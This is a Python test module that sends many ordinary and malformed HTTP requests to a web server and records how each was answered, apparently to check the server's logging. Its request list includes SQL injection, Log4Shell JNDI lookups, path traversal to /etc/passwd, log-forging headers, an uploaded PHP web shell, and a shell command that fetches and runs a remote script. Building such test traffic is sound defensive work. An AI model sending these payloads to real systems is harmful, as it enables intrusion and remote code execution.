"""Requests for web servers, ordinary and odd, and what truly happened to each."""

import socket
import time

from .world import connect, text_or_hex

HOST = b"Host: www.shipyard.example\r\n"
FIREFOX = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


class Browser:
    """Sends requests, each on a connection of its own with a known port, and notes what came back."""

    def __init__(self, outside, server_port):
        self.outside, self.server_port, self.truth = outside, server_port, []

    def raw(self, sent, source="198.51.100.7", **facts):
        """Sends these bytes; notes the status and the length of the body (both None where there is no HTTP answer)."""
        def job():
            where = {"source": source, "port": self.outside.port(), "server_port": self.server_port}
            begun = time.time()
            s = connect(source, where["port"], self.server_port)
            s.sendall(sent)
            s.settimeout(5)
            answer = b""
            try:
                while part := s.recv(65536):
                    answer += part
            except OSError:
                pass
            s.close()
            head, _, body = answer.partition(b"\r\n\r\n")
            status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else None
            self.truth.append({**where, **facts, "status": status, "body_bytes": len(body) if status else len(answer),
                               "begun": round(begun, 3), "ended": round(time.time(), 3)})
            # A log is written after the answer: the next request waits, so that their order is that of the log.
            time.sleep(0.05)
        self.outside.do(job)

    def get(self, target, method=b"GET", agent=FIREFOX, referer=None, source="198.51.100.7", user=None, forwarded=None, body=b"", version=b"HTTP/1.1", host=HOST):
        """One request; everything in bytes."""
        lines = [b"%s %s %s\r\n" % (method, target, version), host, b"Connection: close\r\n"]
        facts = {**text_or_hex("method", method), **text_or_hex("target", target), "version": version.decode()}
        for name, header, value in (("user_agent", b"User-Agent", agent), ("referer", b"Referer", referer), ("forwarded_for", b"X-Forwarded-For", forwarded)):
            if value is not None:
                lines.append(b"%s: %s\r\n" % (header, value))
                facts.update(text_or_hex(name, value))
        if user:
            lines.append(b"Authorization: Basic %s\r\n" % user[1])
            facts["authorization_user"] = user[0]
        if body:
            lines.append(b"Content-Length: %d\r\nContent-Type: application/octet-stream\r\n" % len(body))
            facts["request_body_bytes"] = len(body)
        self.raw(b"".join(lines) + b"\r\n" + body, source, **facts)


def browse(b, scripts=b".php"):
    """What every web server is asked."""
    g = b.get
    g(b"/")
    g(b"/index.html?q=drohnen&lang=de", referer=b"https://www.shipyard.example/start")
    g(b"/", source="2001:db8:7::7", agent=b"curl/8.5.0")
    g(b"/gibtesnicht.html", source="203.0.113.9")
    g(b"/a%20b/%2e%2e/%c3%bc?x=%3Cscript%3Ealert(1)%3C/script%3E&y=%00%0a%0d")
    g(b"/..%2f..%2fetc%2fpasswd", source="203.0.113.9")
    g(b"/?q=\xff\xfe\xe4", source="203.0.113.9")
    g("/größe?ü=ß".encode(), source="203.0.113.9")
    g(b"/?a=\"b\"&c='d'&e=\\f", source="203.0.113.9")
    g(b"/search?q=1'%20UNION%20SELECT%20null,version()--", agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)", source="203.0.113.9")
    g(b"/?x=${jndi:ldap://203.0.113.9/a}", agent=b"${jndi:ldap://203.0.113.9/b}", source="203.0.113.9")
    g(b"/quoted", agent=b'agent "with quotes" and \\ backslash \\" both', referer=b'"', source="203.0.113.9")
    g(b"/forged", agent=b'x" 200 1 "-" "-"\t198.51.100.1 - - [01/Jan/2020:00:00:00 +0000] "GET /forged', source="203.0.113.9")
    g(b"/bytes", agent=b"\xff\xfe latin1 \xe4 esc \x1b[31m del \x7f", source="203.0.113.9")
    g(b"/utf8", agent="Grüße vom Schiff ⛵".encode())
    g(b"/empty-agent", agent=b"")
    g(b"/no-agent", agent=None)
    g(b"/long?" + b"A" * 5000, source="203.0.113.9")
    g(b"/too-long?" + b"B" * 20000, source="203.0.113.9")
    g(b"/private/", user=("anna", b"YW5uYTpaYXVua29lbmlnLTE3"))
    g(b"/private/", user=("anna", b"YW5uYTp3cm9uZw=="), source="203.0.113.9")
    g(b"/private/", user=('a "b" c', b"YSAiYiIgYzp3cm9uZw=="), source="203.0.113.9")
    g(b"/private/", source="203.0.113.9")
    g(b"/behind-a-proxy", forwarded=b"203.0.113.77, 198.51.100.23")
    g(b"/", version=b"HTTP/1.0", host=b"")
    g(b"/", method=b"HEAD")
    g(b"/", method=b"OPTIONS")
    g(b"*", method=b"OPTIONS")
    g(b"/", method=b"PROPFIND", source="203.0.113.9")
    g(b"/", method=b"DEBUG", source="203.0.113.9")
    g(b"/", method=b"gEt", source="203.0.113.9")
    g(b"http://www.example.com/", source="203.0.113.9")
    g(b"www.example.com:443", method=b"CONNECT", source="203.0.113.9")
    g(b"/", host=b"Host: kunden.shipyard.example:8080\r\n")
    g(b"/", host=b"Host: ../\"'\r\n", source="203.0.113.9")
    g(b"/upload", method=b"POST", body=b"<?php system($_GET['cmd']); ?>" * 20, source="203.0.113.77", agent=b"python-requests/2.31.0")
    g(b"/uploads/bild" + scripts + b"?cmd=id", source="203.0.113.77", agent=b"python-requests/2.31.0")
    g(b"/uploads/bild" + scripts + b"?cmd=curl%20-s%20http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh", source="203.0.113.77", agent=b"python-requests/2.31.0")
    b.raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x9a\"\\\xe4" + bytes(range(40)), "203.0.113.9", happened="TLS on a plain port")
    b.raw(b"\r\n\r\n", "203.0.113.9", happened="empty lines")
    b.raw(b"GET /old\r\n\r\n", "203.0.113.9", happened="HTTP/0.9", method="GET", target="/old")
    b.raw(b"GET / HTTP/7.3\r\n\r\n", "203.0.113.9", happened="no such version of HTTP", method="GET", target="/", version="HTTP/7.3")
    b.raw(b"GET /a b c HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n", "203.0.113.9", happened="spaces in the target", method="GET", target="/a b c", version="HTTP/1.1")
    b.raw(b"quit\r\n\r\n", "203.0.113.9", happened="no HTTP")
    b.raw(b"GET /null\x00byte HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n", "203.0.113.9", happened="a NUL in the target")
    b.raw(b"SSH-2.0-Go\r\n", "203.0.113.9", happened="SSH")
    b.raw(b"GET / HTTP/1.1\r\nHost: a\r\nBroken header\r\nConnection: close\r\n\r\n", "203.0.113.9", happened="a header without a colon", method="GET", target="/", version="HTTP/1.1")
